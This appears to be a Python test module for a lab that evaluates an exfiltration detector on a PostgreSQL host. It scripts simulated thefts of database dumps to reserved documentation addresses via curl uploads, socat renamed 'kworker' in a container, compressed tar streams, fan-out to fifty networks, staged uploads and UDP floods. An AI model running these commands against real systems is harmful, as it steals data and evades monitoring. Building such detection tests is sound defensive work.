# SPDX-License-Identifier: Apache-2.0
"""More thefts: what a thief does who has read about the first ones. Same judge."""
import os
import re
import time

from lab import run, wait_for
from postgres import BIN
from thefts import Theft, container_begin, container_end
from truth import Truth

EXFIL = os.path.join(os.path.dirname(os.path.abspath(__file__)), "exfil.py")
PYTHON = os.path.realpath("/usr/bin/python3")
CLOUD_KNOWN = "2001:db8:53::10"  # the host's own archive lies on this cloud's /48
CLOUD_NEW = "2001:db8:53::bad"   # another bucket there
FAN = [f"2001:db8:{0x1000 + n:x}::7" for n in range(50)]  # fifty networks
THIEF_BOX2, THIEF_DOORS, THIEF_UDP, THIEF_DROP = "203.0.113.201", "203.0.113.120", "203.0.113.121", "203.0.113.99"
THIEF_ZIP = "203.0.113.130"
UDP_BYTES_PER_S, UDP_HEADERS = 30_000_000, 28
ADDRESSES = [CLOUD_KNOWN, CLOUD_NEW, THIEF_BOX2, THIEF_DOORS, THIEF_UDP, THIEF_DROP, THIEF_ZIP, *FAN]


def everyday_archive(rates_of):
    """What the learned days hold besides pgbench: the host's archive goes to the cloud every hour."""
    key = {"host": rates_of.get("host", ""), "exe": "/usr/bin/restic", "comm": "restic", "user": "root",
           "dst": CLOUD_KNOWN, "port": 443, "proto": "tcp", "init": "connected", "scope": "public"}
    return key, 20_000, 0


def dump(world, user="postgres"):
    """The stolen file, lying on the host already."""
    path = world.lab.path(f"{world.step}.sql")
    run(["install", "-o", user, "-m", "644", "/dev/null", path])
    world.db.run([f"{BIN}/pg_dump", "-h", world.pg.socket, "-U", "postgres", "-f", path, "registry"], user=user)
    return path


def s3_upload(world):
    """A6: four parallel PUTs to a new bucket on a cloud prefix that the host's own archive uses."""
    theft = Theft("f", "four parallel PUTs to a new bucket on a known cloud", processes={"curl"}, user="postgres",
                  destination=CLOUD_NEW, port=443, initiation="connected")
    theft.truth = Truth.sink(world.thief, f"{world.step}-f.truth", CLOUD_NEW, 443)
    path = dump(world)
    run(["split", "-n", "4", path, path + "."])
    run(["sh", "-c", f"chmod 644 {path}.*"])
    words = ["curl", "-gsS", "-Z"]
    for part in ("aa", "ab", "ac", "ad"):
        words += ["-T", f"{path}.{part}", f"http://[{CLOUD_NEW}]:443/bucket/part-{part}"]
    world.db.run(words, user="postgres")
    return theft


def renamed_in_container(world):
    """A7: a copy of socat under a name of the kernel's, in a container that nobody suspects."""
    theft = Theft("g", "a renamed program in a podman container", processes={"kworker"}, user="root",
                  destination=THIEF_BOX2, port=4444, initiation="connected", container=True)
    argv = container_begin(world, theft) + [
        "--volume", "/usr:/usr:ro", "--volume", "/lib:/lib:ro", "--volume", "/lib64:/lib64:ro",
        "--rootfs", world.lab.path("rootfs"), "/bin/sh", "-c"]
    theft.truth = Truth.sink(world.thief, f"{world.step}-g.truth", THIEF_BOX2, 4444)
    world.db.run(argv + ["cp /usr/bin/socat /tmp/kworker && /bin/tar -C /data -c . |"
                         f" /tmp/kworker -u - TCP4:{THIEF_BOX2}:4444"])
    container_end(theft)
    return theft


def compressed(world):
    """A8: compressed on the way, so that little leaves for much that is read."""
    theft = Theft("h", "tar of the data directory, compressed", processes={"socat"}, user="root",
                  destination=THIEF_ZIP, port=443, initiation="connected")
    theft.truth = Truth.sink(world.thief, f"{world.step}-h.truth", THIEF_ZIP, 443)
    world.db.run(["sh", "-c", f"tar -C {world.pg.data} -cf - --warning=no-file-changed . | zstd -q --fast=10 |"
                  f" socat -u - TCP4:{THIEF_ZIP}:443"])
    return theft


def fan_out(world):
    """A13: a fiftieth to each of fifty networks."""
    theft = Theft("i", "a fiftieth to each of fifty networks", processes={"socat"}, user="postgres",
                  destination=FAN, port=443, initiation="connected")
    theft.truth = Truth.sink(world.thief, f"{world.step}-i.truth", "::", 443)
    path = dump(world)
    run(["split", "-n", str(len(FAN)), "-d", "-a", "2", path, path + "."])
    run(["sh", "-c", f"chmod 644 {path}.*"])
    world.db.run(["sh", "-c", "".join(f"socat -u FILE:{path}.{n:02} TCP6:[{a}]:443\n" for n, a in enumerate(FAN))],
                 user="postgres")
    return theft


def staged(world):
    """A16: dumped to a file by one user, uploaded later by another."""
    theft = Theft("j", "dumped by postgres, uploaded later by www-data", processes={"curl"}, user="www-data",
                  destination=THIEF_DROP, port=443, initiation="connected")
    path = dump(world)
    theft.truth = Truth.sink(world.thief, f"{world.step}-j.truth", THIEF_DROP, 443)
    world.db.run(["curl", "-sS", "-T", path, f"http://{THIEF_DROP}:443/drop"], user="www-data")
    return theft


def by_door(way, key):
    """A19: the same file through a door that tracers of system calls do not watch."""
    def theft_of(world):
        theft = Theft(key, f"a program of the thief's, by {way}", processes={"exfil.py"}, user="www-data",
                      destination=THIEF_DOORS, port=443, initiation="connected")
        path = dump(world)
        theft.truth = Truth.sink(world.thief, f"{world.step}-{key}.truth", THIEF_DOORS, 443)
        world.db.run([PYTHON, EXFIL, way, path, THIEF_DOORS, "443"], user="www-data")
        return theft
    theft_of.__name__ = f"by_{way}"
    return theft_of


class Datagrams:
    """The truth of a flood: what nftables counts as it comes in at the receiver's host."""

    def __init__(self, world):
        self.ns, self.begin, self.sent = world.thief, time.time(), 0
        for rule in ("add table ip flood", "add chain ip flood in { type filter hook prerouting priority -300 ; }",
                     f"add rule ip flood in ip daddr {THIEF_UDP} udp dport 443 counter drop"):
            self.ns.run(["nft", rule])

    def total(self):
        counter = re.search(r"packets (\d+) bytes (\d+)", self.ns.run(["nft", "list", "table", "ip", "flood"]))
        return int(counter.group(2)) - UDP_HEADERS * int(counter.group(1))

    def wait_end(self):
        wait_for("the last datagram", lambda: self.total() >= self.sent)

    def stop(self):
        """The counter stays: the total is asked for later."""

    def first(self, _):
        return self.begin

    def bytes_by(self, when):
        return min(int(max(0, when - self.begin) * UDP_BYTES_PER_S), self.total())


def by_datagrams(world):
    """A19: as QUIC would, paced so that the receiver loses nothing."""
    theft = Theft("m", "datagrams of 1200 bytes", processes={"exfil.py"}, user="www-data", destination=THIEF_UDP,
                  port=443, initiation="datagram")
    path = dump(world)
    theft.truth = Datagrams(world)
    theft.truth.sent = int(world.db.run([PYTHON, EXFIL, "udp", path, THIEF_UDP, "443", str(UDP_BYTES_PER_S)],
                                        user="www-data").strip())
    return theft


MORE = [s3_upload, renamed_in_container, compressed, fan_out, staged, by_door("sendfile", "k"), by_door("splice", "l"),
        by_datagrams]
